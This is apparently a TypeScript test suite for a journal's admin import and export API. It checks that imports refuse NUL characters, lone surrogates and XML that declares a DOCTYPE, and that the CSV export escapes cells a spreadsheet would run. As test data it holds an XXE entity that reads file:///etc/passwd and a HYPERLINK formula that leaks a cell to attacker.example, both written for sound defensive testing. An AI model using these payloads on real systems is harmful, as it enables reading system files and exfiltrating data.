import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importLineSchema, type ImportLine, type ImportReport } from '../../../common/schemas/imports.js';
import { LONE_SURROGATE_MESSAGE, NUL_MESSAGE } from '../../../common/schemas/text-characters.js';
import { createTestApp, type TestApp } from '../../test/test-app.js';
import { generatedImport, tableRows } from './import-test-fixtures.js';
import { ojsExport } from './ojs/fixtures/ojs-export.js';
import { COLUMN_NAMES, columnOfHeader, NO_PDF, type Cells } from './spreadsheet-columns.js';
import { exportSpreadsheet } from './spreadsheet-export.js';
import { tableBytes } from './spreadsheet-file.js';

/**
 * Hostile files through the admin's import calls, as the screen sends them (issue 47): text no form takes, XML that
 * declares a DOCTYPE, and cells a spreadsheet program would run in the CSV the export writes.
 */
let t: TestApp;
let auth: { authorization: string };
let dir: string;

beforeAll(async () => {
  t = await createTestApp();
  auth = await t.authHeader();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'import-hardening-'));
});
afterAll(async () => {
  await t.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

type Upload = [field: string, name: string, data: Buffer | string];

const formOf = (source: 'ojs' | 'spreadsheet', ...uploads: Upload[]) => {
  const form = new FormData();
  form.append('source', source);
  for (const [field, name, data] of uploads) form.append(field, new Blob([new Uint8Array(Buffer.from(data))]), name);
  return form;
};

const call = (app: TestApp, action: 'check' | 'run', form: FormData, headers = auth) =>
  app.app.inject({ method: 'POST', url: `/api/admin/import/${action}`, headers, payload: form });

const lastLine = (body: string): ImportLine => importLineSchema.parse(JSON.parse(body.trim().split('\n').at(-1)!));

const articleRows = (app: TestApp) => app.journal.db.selectFrom('articles').selectAll().orderBy('refnumber').execute();

/** Rows of one issue of 2032 without PDFs: the checks here are of text, not files. */
const rowsOf = (count: number, change: (row: Partial<Cells>, index: number) => Partial<Cells> = (row) => row) =>
  generatedImport(count, { issues: 1, year: 2032, refBase: 320_000 }).rows.map((row, index) =>
    change({ ...row, pdf: NO_PDF }, index),
  );

/** An XLSX file of `rows` with its shared strings (the text of its cells, as XML) rewritten by `change`. */
async function xlsxWith(rows: Partial<Cells>[], change: (xml: string) => string): Promise<Buffer> {
  const files = unzipSync(new Uint8Array(await tableBytes('xlsx', COLUMN_NAMES, tableRows(rows))));
  files['xl/sharedStrings.xml'] = strToU8(change(strFromU8(files['xl/sharedStrings.xml']!)));
  return Buffer.from(zipSync(files));
}

describe('imported text keeps the rule typed text keeps: no NUL, no lone surrogate', () => {
  it('names the article and field of each in an OJS export (&#0;, &#xD800;); its run writes nothing', async () => {
    const xml = ojsExport({ format: 'main' })
      .replace('Rain and erosion', 'Rain and&#0; erosion')
      .replace('>Ana<', '>A&#xD800;na<');
    const form = () => formOf('ojs', ['xml', 'issues.xml', xml]);
    const check = await call(t, 'check', form());
    expect(check.statusCode).toBe(200);
    const article = expect.stringContaining("article 'Rain and");
    expect(check.json<ImportReport>().problems).toEqual(
      expect.arrayContaining([
        { record: article, field: 'title', message: NUL_MESSAGE },
        { record: article, field: 'authors.1.given_name', message: LONE_SURROGATE_MESSAGE },
      ]),
    );

    const run = await call(t, 'run', form());
    expect(lastLine(run.body)).toMatchObject({
      type: 'refused',
      message: expect.stringMatching(/nothing was imported/),
    });
    expect(await articleRows(t)).toEqual([]);
    expect(await t.journal.db.selectFrom('issues').select('id').execute()).toEqual([]);
  });

  it('names the row and field of each in a spreadsheet, CSV or XLSX', async () => {
    const csvRows = rowsOf(2, (row, index) => (index === 0 ? { ...row, abstract: '<p>Cut\u0000 short</p>' } : row));
    const csv = await tableBytes('csv', COLUMN_NAMES, tableRows(csvRows));
    const csvCheck = await call(t, 'check', formOf('spreadsheet', ['spreadsheet', 'articles.csv', csv]));
    expect(csvCheck.json<ImportReport>().problems).toEqual([
      { record: 'row 2', field: 'abstract', message: NUL_MESSAGE },
    ]);

    const xlsxRows = rowsOf(2, (row, index) => (index === 1 ? { ...row, title: 'Half HALF a pair' } : row));
    const xlsx = await xlsxWith(xlsxRows, (xml) => xml.replace('HALF', '&#xD800;'));
    const xlsxCheck = await call(t, 'check', formOf('spreadsheet', ['spreadsheet', 'articles.xlsx', xlsx]));
    expect(xlsxCheck.json<ImportReport>().problems).toEqual([
      { record: 'row 3', field: 'title', message: LONE_SURROGATE_MESSAGE },
    ]);
    expect(await articleRows(t)).toEqual([]);
  });

  it('refuses a lone surrogate typed into a JSON body with 400, as a NUL, and changes nothing', async () => {
    const page = () => t.app.inject({ url: '/api/admin/pages', headers: auth });
    const before = (await page()).json();
    const response = await t.app.inject({
      method: 'PUT',
      url: '/api/admin/pages/instructions',
      headers: { ...auth, 'content-type': 'application/json' },
      // JSON's escape is the one way to send half a pair: UTF-8 has no bytes for it.
      payload: '{"content":"<p>Half \\ud800 a pair</p>"}',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ error: 'invalid_input', message: `content: ${LONE_SURROGATE_MESSAGE}` });
    expect((await page()).json()).toEqual(before);
  });
});

describe('XML that declares a DOCTYPE', () => {
  const DOCTYPE = '<!DOCTYPE issues [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
  const refusal = (what: string, doctype: string) =>
    `${what} declares a DOCTYPE (${doctype}); documents with a DOCTYPE are refused. ` +
    'Export it again without one, or remove the declaration.';

  it('is refused with 400 naming it, in an OJS export with an external entity, by the check and the run', async () => {
    const xml = ojsExport({ format: 'main' })
      .replace('<?xml version="1.0"?>', `<?xml version="1.0"?>\n${DOCTYPE}`)
      .replace('Rain and erosion', 'Rain and &xxe;');
    const form = () => formOf('ojs', ['xml', 'issues.xml', xml]);
    const check = await call(t, 'check', form());
    expect(check.statusCode).toBe(400);
    expect(check.json()).toEqual({ error: 'import_refused', message: refusal('The file', DOCTYPE) });
    expect(lastLine((await call(t, 'run', form())).body)).toEqual({
      type: 'refused',
      message: refusal('The file', DOCTYPE),
      report: null,
    });
    expect(await articleRows(t)).toEqual([]);
  });

  it('is refused with 400 naming it and the part, in an XLSX spreadsheet', async () => {
    const doctype = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    const xlsx = await xlsxWith(rowsOf(1), (xml) =>
      xml.replace('?><sst', `?>${doctype}<sst`).replace('Field trial', 'Field &xxe; trial'),
    );
    const check = await call(t, 'check', formOf('spreadsheet', ['spreadsheet', 'articles.xlsx', xlsx]));
    expect(check.statusCode).toBe(400);
    expect(check.json()).toEqual({
      error: 'import_refused',
      message: refusal('articles.xlsx (its part xl/sharedStrings.xml)', doctype),
    });
  });
});

describe('the CSV of the spreadsheet export', () => {
  /** Values a spreadsheet program would run, and one typed with an apostrophe to keep it text. */
  const RUNNING: Partial<Cells> = {
    title: '=HYPERLINK("https://attacker.example/?leak="&amp;A1, "Field trial")',
    abstract: '\t-5 °C nights slowed the trial.',
    keywords: "'=SUM(A1:A9)",
    subject: '@risk',
    country: '=1+1',
    mobile: '+91 98765 43210',
    licence_name: '\uFF1D1+1',
    authors: '=cmd Calc; Ravi Kumar',
    ...{ author_affiliations: '', author_countries: '', author_orcids: '', author_emails: '' },
    email: 'office@uni.example',
  };
  const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

  const exportedCsv = async (app: TestApp) => {
    const response = await app.app.inject({
      url: '/api/admin/import/export?format=csv',
      headers: await app.authHeader(),
    });
    expect(response.statusCode).toBe(200);
    const files = unzipSync(new Uint8Array(response.rawPayload));
    return { csv: Buffer.from(files['articles.csv']!), pdfs: Buffer.from(files['pdfs.zip']!) };
  };

  it('escapes every cell a spreadsheet program would run, the admin export and the command line alike', async () => {
    const xlsx = await tableBytes(
      'xlsx',
      COLUMN_NAMES,
      tableRows(rowsOf(2, (row, n) => ({ ...row, ...RUNNING, title: `${RUNNING.title} ${n}` }))),
    );
    const run = await call(t, 'run', formOf('spreadsheet', ['spreadsheet', 'articles.xlsx', xlsx]));
    expect(lastLine(run.body), run.body).toMatchObject({ type: 'done', written: { articles: 2 } });

    const { csv } = await exportedCsv(t);
    const cells = (parse(csv, { bom: true }) as string[][]).flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    const [header, first] = parse(csv, { bom: true }) as string[][];
    const cell = (name: string) => first![header!.findIndex((heading) => columnOfHeader(heading) === name)];
    expect(cell('title')).toBe(`'${(await articleRows(t))[0]!.title}`);
    expect(cell('title')).toMatch(/^'=HYPERLINK\(/);
    expect([cell('abstract'), cell('keywords'), cell('subject'), cell('country'), cell('mobile')]).toEqual([
      "'\t-5 °C nights slowed the trial.",
      "''=SUM(A1:A9)",
      "'@risk",
      "'=1+1",
      "'+91 98765 43210",
    ]);
    expect(cell('licence_name')).toBe("'\uFF1D1+1");
    expect(cell('authors')).toBe("'=cmd Calc; Ravi Kumar");

    // `npm run import -- --export x.csv` writes the spreadsheet with the same function.
    const spreadsheet = path.join(dir, 'x.csv');
    await exportSpreadsheet(t.journal.db, t.journal.files, { spreadsheet, pdfs: path.join(dir, 'x.zip') });
    expect(fs.readFileSync(spreadsheet)).toEqual(csv);
  });

  it('gives back every value, apostrophes and all, when imported again', async () => {
    const exported = await exportedCsv(t);
    expect(exported.csv.toString()).toContain(",''=SUM(A1:A9),");
    const other = await createTestApp();
    try {
      const form = formOf(
        'spreadsheet',
        ['spreadsheet', 'articles.csv', exported.csv],
        ['pdfs', 'pdfs.zip', exported.pdfs],
      );
      const run = await call(other, 'run', form, await other.authHeader());
      expect(lastLine(run.body)).toMatchObject({ type: 'done', written: { articles: 2 } });
      const fields = ['refnumber', 'title', 'authorname', 'abstract', 'keywords', 'subject', 'country', 'mobile'];
      const kept = (rows: Record<string, unknown>[]) =>
        rows.map((row) => Object.fromEntries(fields.map((field) => [field, row[field]])));
      const imported = kept(await articleRows(other));
      expect(imported).toEqual(kept(await articleRows(t)));
      expect(imported[0]).toMatchObject({ keywords: "'=SUM(A1:A9)", subject: '@risk', abstract: RUNNING.abstract });
      expect((await exportedCsv(other)).csv).toEqual(exported.csv);
    } finally {
      await other.close();
    }
  });
});
